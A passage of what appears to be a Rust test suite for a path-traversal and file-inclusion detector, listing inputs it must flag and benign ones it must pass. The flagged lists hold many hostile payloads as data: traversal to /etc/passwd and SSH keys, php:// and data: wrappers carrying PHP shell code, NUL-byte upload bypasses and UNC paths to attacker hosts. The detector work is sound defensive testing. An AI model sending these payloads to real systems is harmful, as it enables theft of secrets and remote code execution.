                "é:",
                "@ile:/x",
                "[ile:/x",
                "{hp://",
                "data:image/png",
                "jar:file:/x",
                "compress.zlib:x",
                "..",
                "...",
                "..;x",
                ".;",
                ".",
                "..a",
                "a..",
                "..;",
                ".. ",
                "....//",
            ]
            .map(str::to_owned),
        );
        for t in &texts {
            assert_eq!(opens_with_scheme(t), opens_with_scheme_plain(t), "{t:?}");
            assert_eq!(
                is_dot_segment(t.as_bytes()),
                is_dot_segment_plain(t),
                "{t:?}"
            );
        }
        // every byte as the first, before a scheme's rest
        for b in 0u8..=255 {
            let t = String::from_utf8_lossy(&[b, b'i', b'l', b'e', b':', b'/']).into_owned();
            assert_eq!(opens_with_scheme(&t), opens_with_scheme_plain(&t), "{t:?}");
        }
    }

    fn hit(v: &str) -> bool {
        detect(v, Context::Param).is_some()
    }

    #[test]
    fn a_rooted_path_after_a_file_prefix_is_judged_as_at_the_start() {
        for v in [
            "@/var/jenkins_home/secrets/initialAdminPassword",
            "<@/var/jenkins_home/secrets/initialAdminPassword",
            "file=/var/jenkins_home/secrets/initialAdminPassword",
            "@/srv/backup/db.sql.bak",
            "@/etc/shadow",
            "path=/etc/shadow",
            "@~/.ssh/id_rsa",
            "@/tmp/x.php",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "@/home",
            "@home is my handle",
            "bob@example.com",
            "deploy@host:/srv/app",
            "a=/b in prose",
            "redirect=/account/settings",
            "@/images/logo.png",
            "next=/cart",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_shell_quoted_path_is_read_after_quote_removal() {
        for v in [
            "/e\"t\"c/pa's's'wd",
            "/et''c/passwd",
            "/etc/\"\"shadow",
            "..'/'..'/'etc/passwd",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "it's /srv/app/data",
            "don't/won't",
            "\"/etc\" is a folder",
            "'/var/www/html'",
            "{\"dir\":\"/srv/app\"}",
            "O'Brien/Smith",
            "/docs/it's-fine",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_hex_value_is_judged_as_the_text_it_spells() {
        for v in [
            "2e2e2f2e2e2f2e2e2f6574632f706173737764",
            "2E2E2F2E2E2F2E2E2F6574632F706173737764",
            "2f6574632f736861646f77",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "d41d8cd98f00b204e9800998ecf8427e",
            "5f4dcc3b5aa765d61d8327deb882cf99",
            "68656c6c6f20776f726c64",
            "2f696d616765732f6c6f676f2e706e67",
            "0123456789abcdef0123456789abcdef",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_relative_link_named_in_a_sentence() {
        for v in [
            "../relative/path in webpack config",
            "../lib is the shared code",
            "../src/components for the widgets",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        for v in [
            "../../../etc/passwd in webpack config",
            "../.env in the root",
            "../config/database.yml is here",
            "../",
            "../../x/y in z",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
    }

    #[test]
    fn paths_spelled_with_character_references() {
        for v in [
            "&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd",
            "&#x2e;&#x2e;/&#x2e;&#x2e;/etc/passwd",
            "&period;&period;&sol;&period;&period;&sol;windows&sol;win.ini",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "Tom &amp; Jerry",
            "&#46;&#46;&#46; and more",
            "R&amp;D / sales",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_wrapper_after_a_query_or_literal_delimiter() {
        for v in [
            "index.php?page=php://input",
            "page=expect://id",
            "https://victim.example/load?tpl=phar://./uploads/a.jpg",
            "/view.php?p=zip://uploads/x.jpg%23s.php",
            "tpl=compress.zlib://index.php",
            "q=glob://*.php",
            "/load?u=jar:http://evil.example/x.jar!/",
            "{\"src\":\"php://filter/resource=config.php\"}",
            "(data://text/plain;base64,PD9w",
            "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "rar://uploads/x.rar#shell.php",
            "ssh2.exec://localhost/id",
            "classpath*:application.yml",
            "ogg://http://attacker.example/x",
            "sftp://attacker.example:11111/",
            "smb://attacker.example/share/a",
            "?u=sftp://attacker.example/",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "the admin:// KIO protocol",
            "Provides the file support (file://) for gfal2.",
            "<code>file:///C:/app/bin/main.js</code>",
            "x=myphp://input",
            "see php: the language",
            "img=data:image/png;base64,iVBORw0KGgo=",
            "u=https://example.com/a",
            "KIOSlaves such as smb:// or fish://",
            "x=mysftp://host",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_climb_in_a_parameter_value_names_a_file() {
        for v in [
            "?inc=../secret.php",
            "/view?f=..%2fconfig.php",
            "?file=php://filter/convert.base64-encode/resource=../config.php",
            "a=1&f=../../app/settings.py",
            "/index.php?page=../config",
            "?tpl=../secrets/db",
            "/?lang=../../../../../../../../tmp/pearcmd",
            "enter.cfm?locale=../../../../ColdFusion8/lib/password.properties%00en",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "https://example.com/search?q=..%2F",
            "?return=../cart",
            "return_to=../../account",
            "x=1&next=../home",
            "?next=../settings",
            "../settings",
            "../private/photos",
            "?return=../account/preferences",
            "?return=../blog/2024/05/post.html",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn dot_segments_of_a_url_path_and_links_to_assets() {
        // A client resolves a URL's dot segments at the host's root; its query is read as
        // written. One step up to a static asset is a relative href.
        for v in [
            "https://example.com/a/b/../c/index.html",
            "https://example.com/docs/../guide/",
            "https://github.com/user/repo/blob/main/src/../README.md",
            "../images/logo.png",
            "../css/main.css",
            "..%2Fimages%2Flogo.png",
            "..\\images\\banner.jpg",
            "../index.html",
            "../../assets/fonts/roboto.woff2",
            ".../Downloads/file.pdf",
            // the same links as attribute values in rich-text markup
            r#"<p><a href="/docs/../faq.html">FAQ</a></p>"#,
            r#"<a href="https://example.com/a/b/../c/index.html">x</a>"#,
            r#"<img src="/uploads/../images/x.png" alt="">"#,
            "<a href='/docs/../guide/'>guide</a>",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        for v in [
            r#"<a href="/images/../config.php">x</a>"#,
            r#"<img src="/uploads/../.env">"#,
            r#"<a href="/static/../../etc/passwd">x</a>"#,
            "http://h/../../etc/passwd",
            "https://victim.example/dl?file=../../../app/config.php",
            "http://h/app/..;/manager/html/x.jsp",
            "http://h/%2e%2e/%2e%2e/app.py",
            "../config.php",
            "../images/logo.png/../../x",
            "../.git/logo.png",
            "/.../",
            "/..../",
            ".../.../x",
            "....//x",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
    }

    #[test]
    fn relative_links_one_or_two_levels_up_to_names_or_assets() {
        // Build configurations, imports, Markdown and CMS links: one or two steps up to
        // plain names, a page or an asset; back out of a directory to a page beside it.
        for v in [
            "../lib",
            "../parent",
            "../shared/utils",
            "../api/v2/users",
            "../../assets/app.js",
            "../../components/Button.jsx",
            "../styles/main.scss",
            "../images/x.pdf",
            "../../LICENSE",
            "../docs/getting-started/",
            "docs/../README.md",
            "src/../index.html",
            "php://input returns empty",
            "phar://archive is deprecated in this version",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        // Deeper climbs, escaped ones, dot-files, application files, what a climb names,
        // a server's path-parameter step, a directory left for a bare name or left open.
        for v in [
            "../../../lib",
            "../../../../x",
            "..%2flib",
            "..%2f..%2f",
            "%2e%2e/%2e%2e/api",
            "&#46;&#46;/&#46;&#46;/lib",
            "../",
            "../../",
            "../.env",
            "../.git/config",
            "../config.js",
            "../../src/config/index.ts",
            "../../config",
            "../secrets/api",
            "../../app/settings.js",
            "../../settings.py",
            "../../etc/passwd",
            "../lib?x=1",
            "../lib/../../x",
            "/app/..;/manager/html",
            "uploads/../config.php",
            "uploads/../index.php",
            "docs/..",
            "php://input",
            "php://filter/resource=index.php is here",
            "expect://ls -la /tmp",
            "data://text/plain,hello there friend",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
    }

    #[test]
    fn a_path_parameter_segment_collapses_to_nothing() {
        for v in [
            "/.;/admin",
            "/;/admin",
            "/.;jsessionid=0/manager/html",
            "/;x=1/admin/users",
            "https://victim.example/.;/actuator/env",
            "/api/.;/internal",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "/shop;jsessionid=A1B2/cart",
            "Mozilla/5.0 [FBAN/FBIOS;FBCR/;FBID/phone;FBLC/en_US]",
            "a /; b",
            "x/.;",
            "font-family: a;/* note */",
            "/;",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_climbing_parameter_joined_to_a_file_parameter() {
        for v in [
            "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
            "?dir=../../&file=conf/app.ini",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "https://example.com/search?q=..%2F",
            "?q=../",
            "?q=../&next=https://example.com/a.php",
            "?up=..&img=photos/cat.png",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_forward_slash_share_holding_a_library() {
        for v in [
            "//attacker.example/share/evil.dll",
            "//10.0.0.5/c$/tools/x.exe",
            "//evil.example/s/payload.hta",
            // a script `include()` runs from the share; an administrative share
            "//attacker.example/share/shell.php",
            "//10.0.0.5/share/x.aspx",
            "//10.0.0.5/c$/x",
            "//fileserver/admin$/system32/config/sam",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "//cdn.example.com/app.js",
            "//cdn.example.com/lib/jquery.min.js",
            "//dl.example.com/setup.exe",
            "//fonts.example.com/css/roboto.css",
            "// see share/evil.dll",
            "//fileserver/tools/setup.exe",
            "\\\\fileserver\\share\\x.dll",
            // scheme-relative links to pages and assets; a page at the host's root
            "//fonts.googleapis.com/css?family=Roboto",
            "//cdn.example.com/img.png",
            "//example.com/index.php",
            "//fileserver/share/report.php",
            "//cdn.example.com/$/x.js",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn quoted_system_files_in_headers_and_non_web_urls_are_code() {
        for ctx in [
            Context::Referer,
            Context::UserAgent,
            Context::Header,
            Context::Param,
        ] {
            for v in [
                "Mozilla/5.0 (X11; Linux) <?php include('/etc/passwd'); ?>",
                "curl/8.0 \"/etc/shadow\"",
                "ftp://anonymous@127.0.0.1/etc/passwd",
                "sftp://10.0.0.1/etc/shadow",
                "LOAD DATA INFILE '/etc/passwd'",
                "load data local infile \"/etc/passwd\" into table t",
            ] {
                assert!(detect(v, ctx).is_some(), "missed {v:?} in {ctx:?}");
            }
        }
        for ctx in [Context::Referer, Context::UserAgent] {
            for v in [
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
                "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
                "ftp://ftp.example.com/pub/file.txt",
                "https://example.com/docs/etc/overview",
                "curl/8.0 '/srv/app/readme.txt'",
            ] {
                assert!(detect(v, ctx).is_none(), "flagged {v:?} in {ctx:?}");
            }
        }
        for v in [
            "the file '/etc/passwd' holds the users",
            "what does infile mean",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn prose_around_a_folder_a_link_or_a_shell_variable() {
        for v in [
            "/etc/ — what is it",
            "/etc/ - what is it",
            "/etc/ -- what is it",
            "The page at /admin/../login gives 404",
            "$HOME/.bashrc",
            "${HOME}/.bash_profile",
            "Set $HOME in your .bashrc",
            "Warning: Undefined variable $user in /var/www/html/index.php on line 12",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        for v in [
            "/etc/passwd -la",
            "The page at /admin/../config.php gives 404",
            "uploads/../.env now",
            "$HOME/.ssh/id_rsa",
            "$HOME/.bash_history",
            "cat $IFS/etc/passwd",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn a_rooted_file_then_one_word_is_a_question_about_it() {
        // A search box or a ticket title: the file and what the user wants to know.
        for v in [
            "/etc/hosts windows",
            "cat /etc/hosts meaning",
            "/etc/shadow permissions?",
            "'/etc/passwd' format",
            "the /etc/passwd format",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        // A climb, a suffix glued to a mark, a short token or more path after the word.
        for v in [
            "/etc/passwd",
            "/etc/passwd%00",
            "/etc/passwd%00 meaning",
            "/etc/passwd .jpg",
            "/etc/passwd x",
            "/etc/passwd foo/bar",
            "/etc/passwd foo;id",
            "../../etc/passwd foo",
            "..\\..\\windows\\win.ini backup",
            "file:///etc/passwd foo",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn an_unrooted_file_opening_the_value_then_one_word_is_a_question_about_it() {
        for v in [
            "etc/passwd meaning",
            "etc/shadow permissions?",
            "\"etc/hosts\" windows",
            "proc/self/environ explained",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        // Bare, glued to a mark, a short token, a climb, or after a parameter name.
        for v in [
            "etc/passwd",
            "etc/passwd%00 meaning",
            "etc/passwd .jpg",
            "etc/passwd x",
            "etc/passwd foo/bar",
            "./etc/passwd meaning",
            "~/.ssh/id_rsa meaning",
            "file=etc/passwd meaning",
            "..%2fetc/passwd meaning",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn cjk_full_stops_spelling_a_dot_segment() {
        // IDNA-style mapping turns U+3002 and U+FF61 into `.` before the file API.
        for v in [
            "\u{3002}\u{3002}/\u{3002}\u{3002}/etc/passwd",
            "\u{ff61}\u{ff61}/\u{ff61}\u{ff61}/etc/passwd",
            ".\u{3002}/.\u{3002}/.\u{3002}/etc/shadow",
            "\u{3002}\u{3002}\\\u{3002}\u{3002}\\windows\\win.ini",
            "/static/\u{3002}\u{3002}/\u{3002}\u{3002}/\u{3002}\u{3002}/etc/passwd",
            "%E3%80%82%E3%80%82/%E3%80%82%E3%80%82/etc/passwd",
            "\u{3002}\u{3002}\u{ff0f}\u{3002}\u{3002}\u{ff0f}etc\u{ff0f}passwd",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        // Full stops ending sentences, also before a slash or after a word.
        for v in [
            "\u{3059}\u{3054}\u{3044}\u{3002}\u{3002}/\u{7b11}",
            "\u{7d42}\u{308f}\u{308a}\u{3002}",
            "\u{3002}\u{3002}",
            "\u{6587}\u{4ef6}\u{3002}/etc \u{76ee}\u{5f55}\u{3002}",
            "a\u{3002}\u{3002}/b",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn a_bare_windows_system_file_name_reads_the_application_directory() {
        // No separator or drive: the name opens in the application's own directory.
        for v in [
            "win.ini",
            "boot.ini",
            "system.ini",
            "\"win.ini\"",
            "WIN.INI",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        // Reached through a drive, the root, a directory or a climb; the application's own
        // configuration files stay judged bare.
        for v in [
            "C:win.ini",
            "c:\\boot.ini",
            "/boot.ini",
            "windows/win.ini",
            "windows\\system.ini",
            "../win.ini",
            "..\\..\\win.ini",
            "..%2fboot.ini",
            "%2e%2e%5cwin.ini",
            "win.ini%00.jpg",
            "web.config",
            ".htpasswd",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn home_shorthand_startup_files_and_public_keys_are_not_reads() {
        // A file API expands no `~`, and a public key is published by design.
        for v in [
            "~/.bashrc",
            "~/.bash_profile",
            "cat ~/.bashrc",
            "~/.bashrc vs ~/.bash_profile",
            "~/.ssh/id_rsa.pub permissions",
            "~/.ssh/id_ed25519.pub",
            "cat ~/.ssh/id_rsa.pub",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        for v in [
            "~/.ssh/id_rsa",
            "~/.ssh/",
            "~/.ssh/authorized_keys",
            "~/.ssh/keys/id_rsa",
            "~/.bash_history",
            "/root/.bashrc",
            "../.bashrc",
            "../../../../home/bob/.bashrc",
            "x~/.bashrc",
            "/home/bob/.ssh/id_rsa",
            "/root/.ssh/id_rsa.pub",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn an_option_and_a_system_file_in_a_client_header_is_a_command_line() {
        for ctx in [Context::UserAgent, Context::Referer] {
            for v in [
                "-u file:///etc/passwd",
                "-K /dev/stdin",
                "--config /etc/passwd",
                "-d @/etc/shadow",
            ] {
                assert!(detect(v, ctx).is_some(), "missed {v:?} in {ctx:?}");
            }
            for v in [
                "-",
                "-u file:///home/me/page.html",
                "-K config.txt",
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
                "curl/8.4.0",
                "-v https://example.com/docs/",
            ] {
                assert!(detect(v, ctx).is_none(), "flagged {v:?} in {ctx:?}");
            }
        }
    }

    #[test]
    fn a_wrapper_or_stream_with_nothing_to_open_is_a_name() {
        for v in [
            "zip://",
            "php://",
            "zip:// links don't work",
            "phar:// ",
            "Windows Alt. Data streams ::$DATA explained",
            "what is ::$DATA",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        for v in [
            "zip://uploads/a.zip#x.php",
            "php://input",
            "expect:// id",
            "page=zip://x.jpg%23s.php",
            "web.config::$DATA",
            "my report.asp::$DATA",
            "C:\\inetpub\\wwwroot\\default.aspx::$DATA",
            "..\\..\\web.config::$DATA",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn one_step_up_to_a_system_directory_is_a_listing() {
        for v in ["../etc", "../etc/", "../../etc", "..\\windows", "../proc"] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        for v in [
            "../lib",
            "../src/etc",
            "../etcetera",
            "../docs",
            "../../assets",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn user_agents_and_referers_count_wrappers_and_walks_to_targets() {
        for ctx in [Context::Referer, Context::UserAgent] {
            for v in [
                "../../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "file:///etc/passwd",
                "php://filter/convert.base64-encode/resource=index.php",
                "..;/..;/WEB-INF/web.xml",
                "https://example.com/page?f=../../../../etc/passwd",
                "https://example.com/view?file=php://filter/resource=config.php",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                // spellings for a filter or a servlet container, to any target
                "..././..././..././etc/passwd",
                ".../.../.../etc/passwd",
                "....//....//tmp/x.jsp",
                "..%09/..%09/etc/passwd",
                "..%20/..%20/etc/passwd",
                "/..;/manager/html",
                "/.;/WEB-INF/web.xml",
                "https://example.com/a/..;/admin/",
                // a URL path that climbs above the site's root
                "https://example.com/files/../../../",
                "https://example.com/files/..%2F..%2F..%2Fapp/db.sqlite",
                // whole values that are a path, no URL or User-Agent
                "../../../config.php",
                "uploads/../../config.php",
                "../../../../tmp/evil.sh",
                "/etc/passwd",
                "/proc/self/environ",
                "C:\\Windows\\win.ini",
                "\\\\10.0.0.5\\c$\\windows\\win.ini",
                "\\\\?\\C:\\Windows\\win.ini",
                "/vpn/../vpns/cfg/smb.conf",
                ".env",
                "WEB-INF/web.xml",
            ] {
                assert!(detect(v, ctx).is_some(), "missed {v:?} in {ctx:?}");
            }
            for v in [
                "https://example.com/docs/../guide/",
                "https://example.com/a/b/../../index.html",
                "https://www.google.com/search?q=..%2F..%2Freports",
                "https://example.com/?return=../cart",
                "../docs/getting-started.md",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                "curl/8.4.0",
                "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                "com.google.android.youtube/17.36.4 (Linux; U; Android 12) gzip",
                "Mozilla/5.0 (Windows NT 10.0; ...) Gecko/20100101 Firefox/...",
                "https://example.com/images/../config.php",
                "https://example.com/files/..%2Freadme",
                "https://example.com/a/b/../../c/...",
                "https://example.com/docs/.../intro",
                "android-app://com.google.android.gm/",
                "file:///C:/Users/John/Desktop/index.html",
                "file:///home/jane/notes.html",
            ] {
                assert!(detect(v, ctx).is_none(), "flagged {v:?} in {ctx:?}");
            }
        }
    }

    #[test]
    fn a_file_url_to_a_document_in_a_users_own_folders_is_quiet() {
        for ctx in [
            Context::Param,
            Context::Cookie,
            Context::Header,
            Context::Referer,
        ] {
            for v in [
                "file:///Users/john/Desktop/receipt.png",
                "file:///C:/Users/Jane/cv.pdf",
                "file:///C:/Users/John/Desktop/map.html",
                "file:///c|/Users/John%20Smith/Documents/Tax%202024/return.PDF",
                "file:///home/ana/Downloads/slides (1).pptx",
                "file://localhost/Users/kim/Pictures/IMG_0042.HEIC",
            ] {
                assert!(detect(v, ctx).is_none(), "flagged {v:?} in {ctx:?}");
            }
        }
        for v in [
            "file:///etc/passwd",
            "file:///C:/Windows/win.ini",
            "file://attacker/share/x",
            "file://attacker/Users/x/Desktop/a.pdf",
            "file:///home/u/.ssh/id_rsa",
            "file:///Users/x/../../etc/passwd",
            "file:///Users/x/Desktop/../../../etc/passwd.txt",
            "file:///Users/x/Desktop/%2e%2e/%2e%2e/etc/passwd.txt",
            "file:///Users/x/Desktop/a%2f..%2f..%2fetc%2fpasswd.txt",
            "file:///C:/Users/x/AppData/Roaming/secrets.txt",
            "file:///C:/Users/x/NTUSER.DAT",
            "file:///home/u/.aws/credentials",
            "file:///Users/x/Desktop/a.pdf%00.php",
            "file:///Users/x/Library/Keychains/login.keychain-db",
            "file:///C:/Users/x\\..\\..\\Windows\\win.ini",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn a_nul_cutting_a_script_extension_before_an_image_one_is_an_upload_bypass() {
        for v in [
            "shell.php%00.png",
            "x.asp%00.jpg",
            "cmd.jsp\u{0}.gif",
            "uploads/shell.PHP5%00.jpeg",
            "file=shell.php%2500.png",
            "cmd.jsp%00x.gif",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        assert!(detect("cmd.jsp\u{0}.gif", Context::Cookie).is_some());
        for v in [
            "report%00.pdf",
            "ab%00cd%00",
            "photo.png%00.jpg",
            "%00%00%00%01",
            "shell.php%00",
            "index.php%00 and more words",
            "a.php%00/b.png",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn a_word_glued_to_two_dots_is_a_name_but_a_url_paths_alias_step_climbs() {
        for v in [
            "/static../settings.py",
            "/assets../.env",
            "/media../.git/config",
            "/static../../etc/passwd",
            "/app/img../config.py",
            "/media../app/config.yml",
            "/static../src/main/resources/application.properties",
            "....//....//etc/passwd",
            "..././..././etc/passwd",
            ".../.../.../etc/passwd",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "ok../done",
            "v1../v2",
            "docs../api",
            "see../notes",
            "it was ok../not great",
            "ok../../",
            "/docs../api",
            "/v1../v2/users",
            "/docs../api/users/list",
            "wait../ok",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_relative_location_word_glued_to_two_dots_steps_out_of_an_alias() {
        for v in [
            "assets../settings.py",
            "static../.git/config",
            "media../.env",
            "assets%2e%2e/settings.py",
            "assets%2E%2E%2Fsettings.py",
            "assets..%5csettings.py",
            "assets..\\settings.py",
            "static..%252f.env",
            "img../../app.py",
            "uploads/files../db.sqlite3",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "v1..v2",
            "a..b",
            "file..txt",
            "ok../done",
            "ok../../",
            "see../notes",
            "wait../ok",
            "e.g../x.txt",
            "it was ok../not great.txt",
            "main..feature/login.js",
            "v1.2..v1.3/CHANGELOG.md",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_unc_path_opened_by_mixed_slashes_is_a_unc_path() {
        for v in [
            "/\\attacker.example\\share\\x",
            "\\/attacker.example/share/x",
            "\\/10.0.0.7\\pub\\a.txt",
            "/\\evil.example@SSL\\dav\\x",
            "%2f%5cattacker.example%5cshare%5cx",
            "%5C%2Fattacker.example%2Fshare%2Fx",
        ] {
            assert!(unc_path(v), "missed {v:?}");
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            // a regular expression, a bare machine name, a host alone
            "/\\d+\\.\\d+/",
            "/\\fileserver\\reports\\q1.xlsx",
            "/\\attacker.example",
            "a/\\b.c\\d",
            "/\\..\\..\\etc\\passwd",
        ] {
            assert!(!unc_path(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_unc_path_with_every_backslash_doubled_is_the_unc_path() {
        for v in [
            "\\\\\\\\attacker.example\\\\share",
            "\\\\\\\\10.0.0.5\\\\c$\\\\x",
            "\\\\\\\\?\\\\UNC\\\\evil.example\\\\s\\\\a.dll",
            "\\\\attacker.example\\share",
            "\\\\;lanmanredirector\\attacker.example\\share\\x",
            "\\\\;WebDavRedirector\\fileserver\\share\\a.dll",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            // A bare machine name is the intranet's own share, doubled or not.
            "\\\\\\\\fileserver\\\\reports\\\\q1.xlsx",
            "\\\\fileserver\\reports\\q1.xlsx",
            "\\\\\\\\attacker.example",
            "\\\\\\\\",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_data_url_counts_for_the_code_it_carries() {
        for v in [
            "data:text/plain,<?php system($_GET[c]);?>",
            "data:text/plain,%3C%3Fphp%20phpinfo()%3B%3F%3E",
            "data:text/plain;charset=utf-8,<%= 7*7 %>",
            "data:text/plain,<SCRIPT language=php>system('id')</script>",
            "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "data:text/plain;base64,aGVsbG8KPD9waHAgZWNobyAxOyA/Pg==",
            "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B",
            "?page=data:text/plain,<?=`id`?>",
            "data://text/plain;base64,PD9w",
            "data://text/plain,hello there friend",
            "data:application/x-httpd-php;base64,c3lzdGVtKCdpZCcpOw==",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "data:text/plain;charset=utf-8,Hello%2C%20World",
            "data:text/plain,Hello",
            "data:text/plain;base64,aGVsbG8gd29ybGQ=",
            "data:;charset=utf-8,hi there",
            "data:text/plain",
            "data:image/png;base64,iVBORw0KGgo=",
            "data:text/plain;base64,",
            "<a href=\"data:text/plain;charset=utf-8,Hello%20World\">download</a>",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn every_directory_is_named_as_windows_opens_it() {
        for v in [
            "/WEB-INF./web.xml",
            "/WEB-INF%2e/web.xml",
            "WEB-INF::$DATA/web.xml",
            "/web-inf%20/web.xml",
            "/app/WEB-INF.../classes/application.properties",
            "/.git./config",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "ok../done",
            "v2./notes/today",
            "Done. /home/page",
            "/docs./guide/intro.html",
            "src./main.rs",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        assert_eq!(
            windows_names("/web-inf./web.xml").as_deref(),
            Some("/web-inf/web.xml")
        );
        assert_eq!(
            windows_names("web-inf::$data/web.xml").as_deref(),
            Some("web-inf/web.xml")
        );
        assert_eq!(windows_names("/a/../b/c.txt."), None);
        assert_eq!(windows_names("/..../x"), None);
    }

    #[test]
    fn paths_spelled_with_css_escapes() {
        for v in [
            "\\2e\\2e\\2f\\2e\\2e\\2fetc\\2fpasswd",
            "\\00002e\\00002e\\00002f\\00002e\\00002e\\00002f x",
            "\\2e \\2e \\2f \\2e \\2e \\2f windows\\2f win.ini",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "C:\\2e\\notes.txt",
            "content: \"\\2022\"",
            "\\2e5 em",
            "font-family: \\5FAE\\8F6F\\96C5\\9ED1",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn warming_changes_no_answer() {
        let before = detect("../../etc/passwd", Context::Param).map(|d| d.reason);
        warm();
        warm();
        assert_eq!(
            detect("../../etc/passwd", Context::Param).map(|d| d.reason),
            before
        );
        assert!(detect("plain words", Context::Param).is_none());
    }

    #[test]
    fn a_dot_pair_after_a_directory_and_other_hosts() {
        for v in [
            "/images/../config.php",
            "/cgi-bin/./../src/main/resources/application.properties",
            "/api/v1/files/%2e%2e%5c%2e%2e%5capp.config",
            "files/..;/admin/config",
            // Inside its base, but out of the directory the application chose: a prefix
            // check (`starts_with("static/")`) passes and the file read is the
            // application's own.
            "static/../app.py",
            "static/../.env",
            "\\\\attacker.example\\share\\payload.dll",
            "\\\\?\\UNC\\attacker\\share\\x",
            "\\\\.\\PhysicalDrive0",
            "%5c%5c10.0.0.1%5cc$%5cx.txt",
            "classpath:application.yml",
            "classpath:/application.properties",
            "jar:http://attacker.example/evil.jar!/",
            "/dev/fd/0",
            "/sys/class/net/eth0/address",
            "/app/config/database.yml",
            "/static../settings.py",
            "/./var/lib/kubelet/config.yaml",
            "/./root/.bash_history",
            "storage/logs/laravel.log",
            "../app/etc/env.php",
            "~/.pypirc",
            "/assets../.git/config",
            "index.php::$DATA",
            "/run/secrets/db_password",
            "uploads/..",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            "src/.../main.rs",
            "lib/../lib/index.js",
            "see the terraform.tfstate file",
            "a/b/../b/c",
            "\\\\fileserver\\shared\\reports\\Q1.xlsx",
            "bd lets you type \"cd ../../..\" instead",
            "path.relative('a', '../b')",
